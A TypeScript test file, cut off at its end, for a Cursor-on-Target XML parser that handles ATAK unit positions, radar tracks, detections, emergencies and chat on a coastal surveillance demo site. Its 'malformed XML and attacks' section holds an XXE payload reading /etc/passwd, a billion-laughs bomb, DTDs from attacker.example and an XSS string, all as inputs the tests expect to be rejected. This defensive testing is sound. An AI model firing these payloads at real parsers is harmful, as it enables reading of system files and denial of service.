import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { encodeCotTasking, xmlEscape } from '../../electron/core/feeds/cot/encodeCotTasking';
import { confidenceFromCe, cotId, isoTime, MAX_COT_EVENT_BYTES, parseCotEvent } from '../../electron/core/feeds/cot/parseCotEvent';
import { attribute, child, parseXml, XmlError } from '../../electron/core/feeds/cot/xml';
import { FeedMessage, type Parsed } from '../../electron/core/feeds/feedMessage';
import { CotStreamFramer } from '../../electron/core/feeds/framing/cotStreamFramer';
import { readSite } from '../../electron/core/site/siteConfig';
import { Site } from '../../shared/site';

const fixtures = path.join(__dirname, '../fixtures/feeds/cot');
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name));
const demo = readSite(path.join(__dirname, '../../assets/sites/cote-opale.json'));
/** The demo site, with the CoT uid the Blanc-Nez radar's tracker reports under. */
const site = Site.parse({ ...demo, sensors: demo.sensors.map((s) => (s.id === 'RAD-BLANCNEZ' ? { ...s, cotUids: ['RADAR-BLANCNEZ-01'] } : s)) });
/** A few seconds after the fixtures were made (21:30–21:38 UTC, 14 July 2025). */
const RECEIVED = Date.parse('2025-07-14T21:30:05Z');

type Of<T extends FeedMessage['type']> = Extract<FeedMessage, { type: T }>;

function ok(result: Parsed): FeedMessage[] {
  assert.ok(result.ok, result.ok ? '' : `${result.reason}: ${result.detail}`);
  for (const message of result.messages) assert.deepEqual(FeedMessage.parse(message), message, 'within the feed schema');
  return result.messages;
}

function one<T extends FeedMessage['type']>(result: Parsed, type: T): Of<T> {
  const messages = ok(result);
  assert.equal(messages.length, 1, JSON.stringify(messages));
  assert.equal(messages[0]!.type, type);
  return messages[0] as Of<T>;
}

function rejected(result: Parsed, reason: string, detail?: RegExp): void {
  assert.equal(result.ok, false, `should be rejected: ${JSON.stringify(result)}`);
  if (result.ok) return;
  assert.equal(result.reason, reason, result.detail);
  if (detail) assert.match(result.detail, detail);
}

const parse = (xml: string | Buffer, receivedAt = RECEIVED, onSite: Site = site) => parseCotEvent(xml, onSite, receivedAt);

/** A minimal valid event around `inner`, with overridable attributes. */
function event(attrs: Record<string, string | undefined> = {}, inner = '<point lat="50.9" lon="1.7" hae="0" ce="10" le="9999999"/>'): string {
  const all: Record<string, string | undefined> = {
    version: '2.0',
    uid: 'RAD-GRISNEZ.T1',
    type: 'a-u-S',
    how: 'm-r',
    time: '2025-07-14T21:30:00Z',
    start: '2025-07-14T21:30:00Z',
    stale: '2025-07-14T21:35:00Z',
    ...attrs,
  };
  const written = Object.entries(all)
    .filter(([, value]) => value !== undefined)
    .map(([key, value]) => `${key}="${value}"`)
    .join(' ');
  return `<event ${written}>${inner}</event>`;
}
const POINT = '<point lat="50.9" lon="1.7" hae="0" ce="10" le="9999999"/>';

describe('CoT units', () => {
  test('an ATAK position report from a unit terminal (Buffer, with XML declaration)', () => {
    const position = one(parse(fixture('atak-pli-u03.xml')), 'unit-position');
    assert.equal(position.unit, 'U03');
    assert.equal(position.lat, 50.9951234);
    assert.equal(position.lon, 2.1034567);
    assert.equal(position.heading, 47.25);
    assert.ok(Math.abs(position.speed! - (4.17 * 3600) / 1852) < 1e-9, 'm/s → knots');
    assert.equal(position.time, Date.parse('2025-07-14T21:30:04.512Z'));
  });

  test('a WinTAK report under another uid is matched by callsign', () => {
    const position = one(parse(fixture('wintak-pli-u06.xml').toString('utf8'), Date.parse('2025-07-14T21:31:11Z')), 'unit-position');
    assert.equal(position.unit, 'U06');
    assert.equal(position.heading, 0);
    assert.equal(position.speed, 0);
    assert.equal(position.time, Date.parse('2025-07-14T21:31:10.270Z'));
  });

  test('a position with <vigie status assignment/> also acknowledges', () => {
    const messages = ok(parse(fixture('atak-pli-u12-en-route.xml'), Date.parse('2025-07-14T21:32:01Z')));
    assert.deepEqual(
      messages.map((m) => m.type),
      ['unit-position', 'unit-ack'],
    );
    assert.deepEqual(messages[1], { type: 'unit-ack', unit: 'U12', status: 'en-route', assignment: 'A-0042', time: Date.parse('2025-07-14T21:32:00.004Z') });
    rejected(
      parse(fixture('atak-pli-u12-en-route.xml').toString().replace('en-route', 'lost'), Date.parse('2025-07-14T21:32:01Z')),
      'bad-schema',
      /vigie status="lost"/,
    );
    rejected(parse(fixture('atak-pli-u12-en-route.xml').toString().replace('A-0042', 'A 42'), Date.parse('2025-07-14T21:32:01Z')), 'bad-schema', /assignment/);
  });

  test('a reply from a unit terminal is an ack only', () => {
    const ack = one(parse(fixture('reply-u09-on-scene.xml'), Date.parse('2025-07-14T21:33:42Z')), 'unit-ack');
    assert.deepEqual(ack, { type: 'unit-ack', unit: 'U09', status: 'on-scene', assignment: 'A-0043', time: Date.parse('2025-07-14T21:33:41Z') });
    const byUid = one(parse(event({ uid: 'ANDROID-U09', type: 'y-c' }, `${POINT}<detail><vigie status="cleared"/></detail>`)), 'unit-ack');
    assert.deepEqual(byUid, { type: 'unit-ack', unit: 'U09', status: 'cleared', time: Date.parse('2025-07-14T21:30:00Z') });
    rejected(parse(event({ uid: 'ANDROID-U09', type: 'y-a-r' }, `${POINT}<detail/>`)), 'unsupported', /without <vigie status/);
    rejected(parse(event({ uid: 'ANDROID-X', type: 'y-a-r' }, `${POINT}<detail><vigie status="cleared"/></detail>`)), 'unknown-unit', /ANDROID-X/);
  });

  test('a friendly device that is not on the site is an unregistered device, not a unit', () => {
    const visitor = one(
      parse(
        event(
          { uid: 'ANDROID-STRANGER', type: 'a-f-G-U-C', how: 'm-g' },
          `${POINT}<detail><contact callsign="VISITOR" endpoint="*:-1:stcp"/><__group name="Cyan" role="Team Lead"/><status battery="87"/><takv device="Pixel 7" platform="ATAK-CIV" os="34" version="4.10.0"/><track course="45" speed="2"/><precisionlocation altsrc="GPS"/></detail>`,
        ),
      ),
      'device-report',
    );
    assert.deepEqual(visitor, {
      type: 'device-report',
      device: 'ANDROID-STRANGER',
      uid: 'ANDROID-STRANGER',
      cotType: 'a-f-G-U-C',
      lat: 50.9,
      lon: 1.7,
      course: 45,
      speed: 2 * (3600 / 1852),
      callsign: 'VISITOR',
      team: 'Cyan',
      role: 'Team Lead',
      battery: 87,
      platform: 'ATAK-CIV',
      model: 'Pixel 7',
      os: '34',
      version: '4.10.0',
      time: Date.parse('2025-07-14T21:30:00Z'),
      stale: Date.parse('2025-07-14T21:35:00Z'),
      extra: '<precisionlocation altsrc="GPS"/>',
    });
    one(parse(event({ uid: 'ANDROID-STRANGER', type: 'a-f-G-U-C' })), 'device-report');
    // The callsign fallback is for CoT terminals only: a JSON-feed unit's callsign on the mesh does not move it.
    const namesake = one(
      parse(event({ uid: 'ANDROID-STRANGER', type: 'a-f-G-U-C' }, `${POINT}<detail><contact callsign="OPALE 01"/></detail>`)),
      'device-report',
    );
    assert.equal(namesake.callsign, 'OPALE 01');
    // A registered device moves its unit.
    const registered = { unitOf: (uid: string) => (uid === 'ANDROID-STRANGER' ? 'U05' : undefined) };
    const moved = one(parseCotEvent(event({ uid: 'ANDROID-STRANGER', type: 'a-f-G-U-C' }), site, RECEIVED, registered), 'unit-position');
    assert.equal(moved.unit, 'U05');
    // Labels are short; a battery past 100 (charging) reads as full.
    rejected(parse(event({ uid: 'A', type: 'a-f-G' }, `${POINT}<detail><contact callsign="${'c'.repeat(65)}"/></detail>`)), 'bad-schema', /longer than 64/);
    assert.equal(one(parse(event({ uid: 'A', type: 'a-f-G' }, `${POINT}<detail><status battery="104"/></detail>`)), 'device-report').battery, 100);
    rejected(parse(event({ uid: 'A', type: 'a-f-G' }, `${POINT}<detail><status battery="full"/></detail>`)), 'bad-schema', /battery/);
  });

  test('points placed by a device: any affiliation and dimension, with who placed them; markers; deletions', () => {
    const link = '<link uid="ANDROID-U03" relation="p-p" type="a-f-G-U-C" parent_callsign="OPALE 03"/>';
    for (const type of ['a-h-G', 'a-u-G', 'a-n-G', 'a-s-G', 'a-j-G', 'a-k-G', 'a-p-G', 'a-h-A-M-F', 'a-u-S', 'a-f-G']) {
      const point = one(
        parse(event({ uid: `P-${type}`, type, how: 'h-g-i-g-o' }, `${POINT}<detail>${link}<contact callsign="X ${type}"/></detail>`)),
        'field-point',
      );
      assert.equal(point.cotType, type);
      assert.equal(point.category, 'atom');
      assert.equal(point.device, 'ANDROID-U03');
      assert.equal(point.placedBy, 'OPALE 03');
    }
    // A sea-surface point from a radar stays a radar track.
    one(parse(event({ uid: 'RAD-GRISNEZ.T9', type: 'a-h-S', how: 'm-r' })), 'track');
    const marker = one(
      parse(
        event(
          { uid: 'M-1', type: 'b-m-p-s-p-loc', how: 'h-g-i-g-o' },
          `${POINT}<detail>${link}<contact callsign="RDV"/><color argb="-65536"/><remarks>Point de rendez-vous</remarks></detail>`,
        ),
      ),
      'field-point',
    );
    assert.deepEqual([marker.category, marker.callsign, marker.colour, marker.remarks], ['marker', 'RDV', -65536, 'Point de rendez-vous']);
    // A SPOI from a site camera is still a detection; from a device it is a marker.
    one(parse(fixture('spoi-camera-wissant.xml'), Date.parse('2025-07-14T21:31:00Z')), 'detection');
    assert.equal(one(parse(event({ uid: 'SPOI-1', type: 'b-m-p-s-p-i', how: 'h-e' }, `${POINT}<detail>${link}</detail>`)), 'field-point').category, 'marker');
    const deleted = one(
      parse(
        event(
          { uid: 'ANDROID-U03', type: 't-x-d-d', how: 'h-g-i-g-o' },
          `${POINT}<detail><link uid="M-1" relation="none" type="none"/><__forcedelete/></detail>`,
        ),
      ),
      'field-delete',
    );
    assert.deepEqual(deleted, { type: 'field-delete', point: 'M-1', uid: 'M-1', device: 'ANDROID-U03', time: Date.parse('2025-07-14T21:30:00Z') });
    rejected(parse(event({ uid: 'ANDROID-U03', type: 't-x-d-d', how: 'h-e' })), 'bad-schema', /link uid/);
  });

  test('emergencies: 911, ring the bell, troops in contact, geofence breach, and the cancel', () => {
    const alarm = one(parse(fixture('emergency-911.xml'), Date.parse('2025-07-14T21:37:01Z')), 'emergency');
    assert.deepEqual(alarm, {
      type: 'emergency',
      device: 'ANDROID-U15',
      uid: 'ANDROID-U15',
      emergency: 'ANDROID-U15-9-1-1',
      kind: '911',
      unit: 'U15',
      callsign: 'QUAD 15',
      lat: 50.9402,
      lon: 1.8013,
      time: Date.parse('2025-07-14T21:37:00Z'),
    });
    const link = '<link uid="ANDROID-STRANGER" type="a-f-G-U-C" relation="p-p"/>';
    const kinds = { 'b-a-o-pan': 'ring-the-bell', 'b-a-o-opn': 'troops-in-contact', 'b-a-g': 'geofence-breach', 'b-a-o-can': 'cancel' };
    for (const [type, kind] of Object.entries(kinds)) {
      const message = one(
        parse(event({ uid: 'ANDROID-STRANGER-9-1-1', type, how: 'h-e' }, `${POINT}<detail>${link}<emergency type="x">VISITOR</emergency></detail>`)),
        'emergency',
      );
      assert.equal(message.kind, kind);
      assert.equal(message.device, 'ANDROID-STRANGER');
      assert.equal(message.unit, undefined, 'an unregistered device is no unit');
    }
    // Without a link, the device is the event uid without ATAK's -9-1-1.
    assert.equal(one(parse(event({ uid: 'ANDROID-U03-9-1-1', type: 'b-a-o-tbl', how: 'h-e' }, `${POINT}<detail/>`)), 'emergency').unit, 'U03');
  });

  test('GeoChat: room, sender, text; markup stays text; a chat too long is refused', () => {
    const chat = one(parse(fixture('chat-geochat.xml'), Date.parse('2025-07-14T21:36:31Z')), 'chat');
    assert.deepEqual(
      { ...chat, extra: undefined },
      {
        type: 'chat',
        message: '6c1f3a52-2f0e-4c59-9f7c-0d0b3e1a9c11',
        device: 'ANDROID-U03',
        uid: 'ANDROID-U03',
        callsign: 'OPALE 03',
        room: 'All Chat Rooms',
        roomId: 'All Chat Rooms',
        text: "Deux zodiacs à l'eau devant Oye-Plage",
        time: Date.parse('2025-07-14T21:36:30.118Z'),
        extra: undefined,
      },
    );
    const xml = fixture('chat-geochat.xml').toString('utf8');
    const markup = one(
      parse(xml.replace("Deux zodiacs à l'eau devant Oye-Plage", '&lt;img src=x onerror=alert(1)&gt;'), Date.parse('2025-07-14T21:36:31Z')),
      'chat',
    );
    assert.equal(markup.text, '<img src=x onerror=alert(1)>');
    rejected(parse(xml.replace("Deux zodiacs à l'eau devant Oye-Plage", 'x'.repeat(5000)), Date.parse('2025-07-14T21:36:31Z')), 'oversized', /5000 characters/);
    rejected(parse(xml.replace(/<__chat[\s\S]*<\/__chat>/, ''), Date.parse('2025-07-14T21:36:31Z')), 'bad-schema', /__chat/);
  });

  test("a unit's own uid is a unit position whatever dimension it reports (a boat as a-f-S)", () => {
    const position = one(parse(event({ uid: 'ANDROID-U21', type: 'a-f-S-X' }, `${POINT}<detail><track course="90" speed="5"/></detail>`)), 'unit-position');
    assert.equal(position.unit, 'U21');
  });

  test('track course and speed are checked', () => {
    const pli = (track: string) => event({ uid: 'ANDROID-U03', type: 'a-f-G-U-C' }, `${POINT}<detail>${track}</detail>`);
    rejected(parse(pli('<track course="400" speed="1"/>')), 'out-of-range', /course="400"/);
    rejected(parse(pli('<track course="10" speed="-1"/>')), 'out-of-range', /negative/);
    rejected(parse(pli('<track course="10" speed="60"/>')), 'out-of-range', /over 100 knots/);
    rejected(parse(pli('<track course="north" speed="1"/>')), 'bad-schema', /course="north"/);
    const noTrack = one(parse(pli('')), 'unit-position');
    assert.equal(noTrack.heading, undefined);
    assert.equal(noTrack.speed, undefined);
  });
});

describe('CoT tracks, detections and drones', () => {
  test('a hostile sea-surface track: sensor from the p-p link, small boat, m/s → knots, stale kept', () => {
    const track = one(parse(fixture('radar-track-hostile.xml'), Date.parse('2025-07-14T21:34:13Z')), 'track');
    assert.deepEqual(track, {
      type: 'track',
      sensor: 'RAD-BLANCNEZ',
      track: 'RAD-BLANCNEZ.T0117',
      lat: 50.9481,
      lon: 1.6522,
      course: 318.4,
      speed: 3.6 * (3600 / 1852),
      cls: 'small-boat',
      time: Date.parse('2025-07-14T21:34:12.250Z'),
      stale: Date.parse('2025-07-14T21:35:12.250Z'),
    });
    // On the demo site the link uid is unknown: the uid prefix still names the radar.
    assert.equal(one(parse(fixture('radar-track-hostile.xml'), Date.parse('2025-07-14T21:34:13Z'), demo), 'track').sensor, 'RAD-BLANCNEZ');
  });

  test('the sensor from the uid prefix; class from the affiliation', () => {
    const unknown = one(parse(fixture('radar-track-prefix.xml'), Date.parse('2025-07-14T21:34:21Z')), 'track');
    assert.equal(unknown.sensor, 'RAD-DUNKERQUE');
    assert.equal(unknown.cls, 'unknown');
    const expected: Record<string, string> = {
      h: 'small-boat',
      s: 'small-boat',
      u: 'unknown',
      f: 'vessel',
      n: 'vessel',
      a: 'vessel',
      p: 'vessel',
      o: 'vessel',
      j: 'vessel',
      k: 'vessel',
    };
    for (const [affiliation, cls] of Object.entries(expected)) {
      assert.equal(one(parse(event({ type: `a-${affiliation}-S-X-F` })), 'track').cls, cls, affiliation);
    }
  });

  test('a track from no known sensor', () => {
    rejected(parse(event({ uid: 'SOMEONE.T1' })), 'unknown-sensor', /uid prefix "SOMEONE"/);
    rejected(
      parse(event({ uid: 'SOMEONE.T1' }, `${POINT}<detail><link uid="RADAR-X" relation="p-p"/><link uid="RAD-GRISNEZ" relation="c-p"/></detail>`)),
      'unknown-sensor',
      /"RADAR-X"/,
    );
  });

  test('a camera SPOI with our <vigie> detection extension', () => {
    const detection = one(parse(fixture('spoi-camera-wissant.xml'), Date.parse('2025-07-14T21:35:03Z')), 'detection');
    assert.deepEqual(detection, {
      type: 'detection',
      sensor: 'CAM-WISSANT',
      detection: 'CAM-WISSANT.SPOI.0031',
      kind: 'boat-launch',
      lat: 50.8891,
      lon: 1.6578,
      confidence: 0.85,
      count: 35,
      time: Date.parse('2025-07-14T21:35:02.800Z'),
    });
  });

  test('a detection without the extension: suspicious activity, confidence from ce', () => {
    const detection = one(parse(fixture('detection-no-extension.xml'), Date.parse('2025-07-14T21:35:31Z')), 'detection');
    assert.equal(detection.sensor, 'CAM-BERCK');
    assert.equal(detection.kind, 'suspicious-activity');
    assert.equal(detection.confidence, 0.6);
    assert.equal(detection.count, undefined);
    assert.deepEqual([0, 50, 50.1, 500, 501, 9_999_999, undefined].map(confidenceFromCe), [0.8, 0.8, 0.6, 0.6, 0.4, 0.4, 0.4]);
    const spi = (vigie: string) => event({ uid: 'CAM-BERCK.spi', type: 'b-m-p-s-p-i' }, `${POINT}<detail>${vigie}</detail>`);
    assert.equal(one(parse(spi('')), 'detection').confidence, 0.8);
    assert.equal(one(parse(spi('<vigie kind="vehicle"/>')), 'detection').kind, 'vehicle');
    rejected(parse(spi('<vigie kind="whale"/>')), 'bad-schema', /kind="whale"/);
    rejected(parse(spi('<vigie confidence="1.5"/>')), 'out-of-range', /confidence/);
    rejected(parse(spi('<vigie count="2.5"/>')), 'out-of-range', /count/);
    rejected(parse(spi('<vigie count="many"/>')), 'bad-schema', /count="many"/);
  });

  test('a drone position is a heartbeat of the drone sensor', () => {
    assert.deepEqual(one(parse(fixture('drone-drn1.xml'), Date.parse('2025-07-14T21:36:01Z')), 'heartbeat'), {
      type: 'heartbeat',
      sensor: 'DRN-1',
      time: Date.parse('2025-07-14T21:36:00Z'),
    });
    rejected(parse(event({ uid: 'OTHER-UAS', type: 'a-f-A-M-F-Q' })), 'unsupported', /a-f-A-M-F-Q/);
    rejected(parse(event({ uid: 'RAD-GRISNEZ.air', type: 'a-h-A' })), 'unsupported', /a-h-A/);
  });

  test('odd namespaces: prefixed elements, a default xmlns, unknown detail children', () => {
    const track = one(parse(fixture('namespaced-event.xml'), Date.parse('2025-07-14T21:38:01Z')), 'track');
    assert.equal(track.sensor, 'RAD-TOUQUET');
    assert.equal(track.cls, 'small-boat');
    assert.equal(track.course, 12.5);
    const defaultNs = event(
      { xmlns: 'urn:mitre:cot:2.0' },
      `${POINT}<detail xmlns:x="urn:x"><x:anything a="b"><x:deeper/></x:anything><track course="1" speed="1"/></detail>`,
    );
    assert.equal(one(parse(defaultNs), 'track').course, 1);
  });
});

describe('CoT types Vigie does not read', () => {
  test('each is unsupported, with the type in the detail', () => {
    rejected(parse(event({ type: 'b-a-o-xyz' })), 'unsupported', /b-a-o-xyz \(emergency alert\)/);
    rejected(parse(event({ type: 'u-d-c-c' })), 'unsupported', /u-d-c-c \(drawing\)/);
    rejected(parse(event({ type: 't-x-c-t' })), 'unsupported', /t-x-c-t \(tasking\)/);
    // A hostile ground atom that nobody placed (no p-p link, measured by a machine) is not read.
    rejected(parse(event({ type: 'a-h-G' })), 'unsupported', /a-h-G/);
    rejected(parse(event({ type: 'b-dx' })), 'unsupported', /b-dx/);
  });

  test('our own outbound tasking type is never accepted inbound', () => {
    const tasking = encodeCotTasking({
      assignment: 'A-1',
      unit: { uid: 'ANDROID-U03', callsign: 'OPALE 03' },
      incident: 'I-1',
      lat: 50.9,
      lon: 1.8,
      status: 'assigned',
      now: RECEIVED,
    });
    rejected(parse(tasking), 'unsupported', /t-x-d is Vigie's own outbound tasking/);
  });

  test('TAK Protocol v1 (protobuf) datagrams', () => {
    rejected(parse(Buffer.from([0xbf, 0x01, 0xbf, 0x12, 0x05])), 'unsupported', /protobuf.*XML/);
  });
});

describe('CoT envelope validation', () => {
  test('stale events are refused', () => {
    rejected(parse(fixture('atak-pli-u03.xml'), Date.parse('2025-07-14T21:36:20Z')), 'stale', /stale since 2025-07-14T21:36:19.512Z/);
    ok(parse(fixture('atak-pli-u03.xml'), Date.parse('2025-07-14T21:36:19.512Z')));
  });

  test('version 2.0, or none', () => {
    one(parse(event({ version: undefined })), 'track');
    // Some devices write "2".
    one(parse(event({ version: '2' })), 'track');
    rejected(parse(event({ version: '2.1' })), 'wrong-version');
    rejected(parse(event({ version: '1.0' })), 'wrong-version', /"1.0"/);
    rejected(parse(event({ version: '' })), 'wrong-version');
  });

  test('required attributes', () => {
    for (const name of ['uid', 'type', 'how', 'time', 'start', 'stale'])
      rejected(parse(event({ [name]: undefined })), 'bad-schema', new RegExp(`has no ${name}`));
    rejected(parse(event({ type: 'a f G' })), 'bad-schema', /type/);
    rejected(parse(event({ how: 'm g' })), 'bad-schema', /how/);
    rejected(parse(event({ uid: 'x'.repeat(300) })), 'bad-schema', /256/);
    rejected(parse(event({ stale: '2025-07-14T21:29:00Z' }), Date.parse('2025-07-14T21:28:00Z')), 'bad-schema', /stale is before its start/);
    rejected(parse('<message uid="x"/>'), 'bad-schema', /root element is <message>/);
    rejected(parse(event({}, '')), 'bad-schema', /no <point>/);
  });

  test('ISO-8601 times', () => {
    assert.equal(isoTime('2025-07-14T21:30:00Z'), Date.UTC(2025, 6, 14, 21, 30));
    assert.equal(isoTime('2025-07-14T21:30:00.5Z'), Date.UTC(2025, 6, 14, 21, 30, 0, 500));
    assert.equal(isoTime('2025-07-14T21:30:00.12Z'), Date.UTC(2025, 6, 14, 21, 30, 0, 120));
    assert.equal(isoTime('2025-07-14T21:30:00.123456789Z'), Date.UTC(2025, 6, 14, 21, 30, 0, 123));
    assert.equal(isoTime('2025-07-14T23:30:00+02:00'), Date.UTC(2025, 6, 14, 21, 30));
    assert.equal(isoTime('2025-07-14T21:00:00-00:30'), Date.UTC(2025, 6, 14, 21, 30));
    assert.equal(isoTime('2024-02-29T00:00:00Z'), Date.UTC(2024, 1, 29));
    for (const bad of [
      '2025-07-14 21:30:00Z',
      '2025-07-14T21:30:00',
      '2025-07-14T21:30Z',
      '2025-13-01T00:00:00Z',
      '2025-02-29T00:00:00Z',
      '2025-04-31T00:00:00Z',
      '2025-07-14T24:00:00Z',
      '2025-07-14T21:60:00Z',
      '2025-07-14T21:30:00.Z',
      '2025-07-14T21:30:00.1234567890Z',
      '2025-07-14T21:30:00+2:00',
      '2025-07-14T21:30:00Zjunk',
      '20250714T213000Z',
    ]) {
      rejected(parse(event({ time: bad })), 'bad-schema', /time/);
    }
  });

  test('point: numbers, ranges, unknown errors', () => {
    const at = (point: string) => parse(event({}, point));
    rejected(at('<point lat="91" lon="1.7"/>'), 'out-of-range', /lat 91/);
    rejected(at('<point lat="-90.0001" lon="1.7"/>'), 'out-of-range', /lat/);
    rejected(at('<point lat="50" lon="-181"/>'), 'out-of-range', /lon -181/);
    rejected(at('<point lat="north" lon="1.7"/>'), 'bad-schema', /lat="north"/);
    rejected(at('<point lat="" lon="1.7"/>'), 'bad-schema', /no lat/);
    rejected(at('<point lon="1.7"/>'), 'bad-schema', /no lat/);
    rejected(at('<point lat="50" lon="Infinity"/>'), 'bad-schema', /lon/);
    rejected(at('<point lat="50" lon="0x10"/>'), 'bad-schema', /lon/);
    rejected(at('<point lat="50" lon="1" ce="-3"/>'), 'out-of-range', /ce and le/);
    rejected(at('<point lat="50" lon="1" hae="high"/>'), 'bad-schema', /hae/);
    assert.equal(one(parse(event({}, '<point lat="5.09E1" lon="+1.7"/>')), 'track').lat, 50.9);
    // Unknown height and errors: NaN (some devices) and 9999999 (CoT's convention) alike; lat/lon stay strict.
    one(at('<point lat="50.9" lon="1.7" hae="NaN" ce="NaN" le="NaN"/>'), 'track');
    one(at("<point lat='50.9' lon='1.7' hae='9999999.0' ce='9999999.0' le='9999999.0'/>"), 'track');
    rejected(at('<point lat="NaN" lon="1.7"/>'), 'bad-schema', /lat="NaN"/);
    // Confidence from an unknown ce is the lowest.
    assert.equal(one(parse(event({ type: 'b-d-r' }, '<point lat="50.9" lon="1.7" ce="NaN"/>')), 'detection').confidence, 0.4);
  });

  test('oversized events', () => {
    const big = event({}, `${POINT}<detail><remarks>${'x'.repeat(MAX_COT_EVENT_BYTES)}</remarks></detail>`);
    rejected(parse(big), 'oversized');
    rejected(parse(Buffer.from(big)), 'oversized');
    rejected(parse(event({}, `${POINT}<detail><remarks>${'é'.repeat(MAX_COT_EVENT_BYTES / 2)}</remarks></detail>`)), 'oversized');
  });
});

describe('malformed XML and attacks', () => {
  const valid = event({}, `${POINT}<detail><remarks>ok</remarks></detail>`);

  test('the base case parses', () => {
    one(parse(valid), 'track');
  });

  test('not well-formed', () => {
    const cases: [string, string, RegExp][] = [
      ['unclosed element', valid.replace('</event>', ''), /<event> is not closed/],
      ['unclosed child', valid.replace('</remarks>', ''), /<\/detail> closes <remarks>/],
      ['mismatched end tag', valid.replace('</detail>', '</details>'), /<\/details> closes <detail>/],
      ['truncated mid-tag', valid.slice(0, 120), /not closed|end of document/],
      ['unquoted attribute', valid.replace('lat="50.9"', 'lat=50.9'), /not quoted/],
      ['attribute without value', valid.replace('lat="50.9"', 'lat'), /has no value/],
      ['repeated attribute', valid.replace('lat="50.9"', 'lat="50.9" lat="51"'), /repeated/],
      ['attributes run together', valid.replace('lat="50.9" lon', 'lat="50.9"lon'), /whitespace/],
      ['< in an attribute', valid.replace('how="m-r"', 'how="<m-r"'), /"<" in the value of how/],
      ['bare ampersand', valid.replace('>ok<', '>fish & chips<'), /starts no entity/],
      ['undeclared entity', valid.replace('>ok<', '>&nbsp;<'), /undeclared entity &nbsp;/],
      ['entity in attribute', valid.replace('how="m-r"', 'how="&foo;"'), /undeclared entity &foo;/],
      ['bad character reference', valid.replace('>ok<', '>&#0;<'), /not an XML character/],
      ['surrogate character reference', valid.replace('>ok<', '>&#xD800;<'), /not an XML character/],
      [']]> in text', valid.replace('>ok<', '>a]]>b<'), /"\]\]>"/],
      ['text after the root', `${valid}trailing`, /after the root/],
      ['two roots', valid + valid, /after the root/],
      ['text before the root', `junk${valid}`, /before the root/],
      ['control character', valid.replace('ok', 'o\u0001k'), /U\+0001/],
      ['-- in a comment', valid.replace('<detail>', '<detail><!-- a -- b -->'), /"--" inside a comment/],
      ['unclosed comment', valid.replace('<detail>', '<detail><!-- a'), /unclosed comment/],
      ['unclosed CDATA', valid.replace('<detail>', '<detail><![CDATA[ a'), /unclosed CDATA/],
      ['XML declaration not first', `<!-- c --><?xml version="1.0"?>${valid}`, /XML declaration/],
      ['other encoding', `<?xml version="1.0" encoding="ISO-8859-1"?>${valid}`, /UTF-8 only/],
      ['bad qualified name', valid.replace('<detail>', '<detail><a:b:c/>'), /qualified name/],
      ['empty document', '', /no root element/],
      ['whitespace only', ' \n ', /no root element/],
    ];
    for (const [name, xml, detail] of cases) {
      const result = parse(xml);
      assert.equal(result.ok, false, name);
      rejected(result, 'bad-xml', detail);
    }
  });

  test('invalid UTF-8 bytes', () => {
    const bytes = Buffer.from(valid.replace('ok', 'XX'));
    bytes[bytes.indexOf('XX')] = 0xc3;
    bytes[bytes.indexOf('X')] = 0x28;
    rejected(parse(bytes), 'bad-xml', /UTF-8/);
  });

  test('DOCTYPE and entity declarations are refused outright', () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE event [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${valid.replace('>ok<', '>&lol3;<')}`;
    const xxe = `<?xml version="1.0"?><!DOCTYPE event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${valid.replace('>ok<', '>&xxe;<')}`;
    const external = `<!DOCTYPE event SYSTEM "http://attacker.example/cot.dtd">${valid}`;
    const parameter = `<!DOCTYPE event [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${valid}`;
    for (const attack of [laughs, xxe, external, parameter]) rejected(parse(attack), 'bad-xml', /DOCTYPE declarations are refused/);
    rejected(parse(valid.replace('<detail>', '<detail><!ENTITY x "y">')), 'bad-xml', /markup declarations are refused/);
    rejected(parse(valid.replace('<detail>', '<detail><!DOCTYPE x>')), 'bad-xml', /DOCTYPE/);
    rejected(parse(`${valid}<!DOCTYPE x>`), 'bad-xml', /DOCTYPE/);
  });

  test('nesting and element-count bombs stop at the limits, fast', () => {
    const deep = event({}, `${POINT}<detail>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</detail>`);
    const started = performance.now();
    rejected(parse(deep), 'bad-xml', /nested deeper than 32/);
    const wide = event({}, `${POINT}<detail>${'<a/>'.repeat(5000)}</detail>`);
    rejected(parse(wide), 'bad-xml', /more than 4096 elements/);
    const attributes = event({}, `${POINT}<detail><a ${Array.from({ length: 100 }, (_, i) => `a${i}="1"`).join(' ')}/></detail>`);
    rejected(parse(attributes), 'bad-xml', /more than 64 attributes/);
    assert.ok(performance.now() - started < 1000);
  });
});

describe('XML subset parser', () => {
  test('entities, character references, CDATA, comments and PIs', () => {
    const root = parseXml(
      `\ufeff<?xml version="1.0" encoding="utf-8"?>\n<!-- c -->\n<r a="&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;" b='x&#10;y' c="tab\there"><t>1 &lt; 2 <![CDATA[<raw> & ]]>3</t><?pi data?><e/></r>\n<!-- after -->\n`,
    );
    assert.equal(attribute(root, 'a'), `<>&"'A😀`);
    assert.equal(attribute(root, 'b'), 'x\ny', 'a character reference survives normalisation');
    assert.equal(attribute(root, 'c'), 'tab here', 'a literal tab is normalised to a space');
    assert.equal(child(root, 't')!.text, '1 < 2 <raw> & 3');
    assert.equal(child(root, 'e')!.children.length, 0);
    assert.equal(root.children.length, 2);
    assert.throws(() => parseXml('<r><'), XmlError);
  });

  test('names keep their prefix; local names drop it', () => {
    const root = parseXml('<cot:event xmlns:cot="urn:x"><cot:point cot:lat="1"/></cot:event>');
    assert.equal(root.name, 'cot:event');
    assert.equal(root.local, 'event');
    assert.equal(attribute(child(root, 'point')!, 'cot:lat'), '1');
  });

  test('errors say where', () => {
    assert.throws(() => parseXml('<a>\n  <b>\n</a>'), /line 3, column 1/);
  });
});

describe('CoT over a TCP stream', () => {
  test('every split point of a two-event stream parses to the same messages', () => {
    const a = fixture('atak-pli-u03.xml');
    const b = fixture('namespaced-event.xml');
    const stream = Buffer.concat([a, Buffer.from('\r\n'), b, Buffer.from('\n')]);
    const receivedAt = Date.parse('2025-07-14T21:30:05Z');
